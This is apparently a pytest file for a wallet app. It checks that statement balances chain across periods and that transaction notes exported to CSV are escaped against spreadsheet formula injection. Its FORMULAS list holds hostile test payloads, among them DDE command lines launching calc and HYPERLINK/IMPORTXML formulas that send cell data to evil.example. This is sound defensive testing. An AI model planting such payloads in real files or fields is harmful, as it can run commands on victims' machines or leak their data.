"""Statements: what a period closes with the next opens with, and no text runs."""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest

from credits_project.spreadsheets import defused
from tests.factories import make_user, wallet_of
from wallets import selectors, services, statement_files
from wallets.models import CreditTransaction
from wallets.periods import month_of

pytestmark = pytest.mark.django_db
EARLY, LATE = datetime(2001, 1, 1, tzinfo=UTC), datetime(2101, 1, 1, tzinfo=UTC)

_FULL_WIDTH = "＝＋－＠"
FORMULAS = [
    *(f"{start}1+1" for start in "=+-@"),
    *(f"{start}1+1" for start in _FULL_WIDTH),
    *(
        f"{space}=1+1"
        for space in ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff")
    ),
    *(f"{start}SUM(A1:A9)" for start in ("=", "+", "-", "@", "=+", "=-", "-+", "=@")),
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    "=1+1\n=2+2",
    '"=1+1',
    "'=1+1",
    ",=1+1",
    ";=1+1",
    "\t\t=1+1",
    " \t =1+1",
    "=",
    "-",
    "@",
    "+265991234567",
]


def move(user: Any, other: Any, cents: int, note: str = "") -> None:
    source, target = (user, other) if cents < 0 else (other, user)
    services.transfer_credits(
        from_user_id=source.pk,
        to_user_id=target.pk,
        amount=Decimal(abs(cents)).scaleb(-2),
        description=note,
    )


def csv_of(user: Any, start: datetime, end: datetime) -> list[dict[str, str]]:
    statement = selectors.statement(wallet=wallet_of(user), start=start, end=end)
    text = "".join(statement_files.csv_lines(statement)).removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("seed", range(8))
def test_the_closing_of_a_period_is_the_opening_of_the_next(seed):
    chance = random.Random(seed)  # noqa: S311 - repeatable
    user, other = make_user(balance="1000.00"), make_user(balance="1000.00")
    for _ in range(12):
        move(user, other, chance.choice((-1, 1)) * chance.randint(1, 5_000))
    moments = CreditTransaction.objects.filter(wallet=wallet_of(user))
    cuts = sorted(
        moment + timedelta(microseconds=chance.choice((-1, 0, 1)))
        for moment in moments.values_list("created_at", flat=True)
        if chance.random() < 0.7
    )
    closing, lines = "0.00", 0

    for start, end in zip([EARLY, *cuts], [*cuts, LATE], strict=True):
        opening, *rows, last = csv_of(user, start, end)
        assert opening["balance_after"] == closing
        for row in rows:
            assert row["balance_before"] == closing
            closing = row["balance_after"]
        assert last["balance_after"] == closing
        lines += len(rows)

    assert closing == str(wallet_of(user).balance)
    assert lines == 13


def test_months_leave_no_moment_out_and_count_none_twice():
    end = EARLY
    for _ in range(1200):
        start, end = month_of(end)
        assert month_of(start) == (start, end)
        assert month_of(end - timedelta(microseconds=1)) == (start, end)
        assert (start.day, end.day) == (1, 1)
        assert 28 <= (end - start).days <= 31


def test_the_formulas_are_many():
    assert len(set(FORMULAS)) >= 40 - 2


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_statement_runs_in_a_spreadsheet(text):
    user, other = make_user(), make_user(balance="1.00")
    move(user, other, 100, note=text)

    (row,) = csv_of(user, EARLY, LATE)[1:-1]

    cell = row["description"]
    assert cell == defused(text)
    assert cell.removeprefix("'") == text.removeprefix("'")
    assert not re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠\t\r\n]", cell)


def test_amounts_stay_numbers():
    user, other = make_user(balance="2.00"), make_user()
    move(user, other, -100)

    rows = csv_of(user, EARLY, LATE)

    assert rows[-2]["amount"] == "-1.00"


@pytest.mark.parametrize(
    "text", ["", "Zikomo ŵ 漢字 🦊", "\x07\x1b", "a" * 500, *FORMULAS]
)
def test_any_text_can_be_printed(text):
    user, other = make_user(), make_user(balance="1.00")
    move(user, other, 100, note=text)
    statement = selectors.statement(wallet=wallet_of(user), start=EARLY, end=LATE)

    assert statement_files.pdf(statement, holder=text or "x").startswith(b"%PDF-")
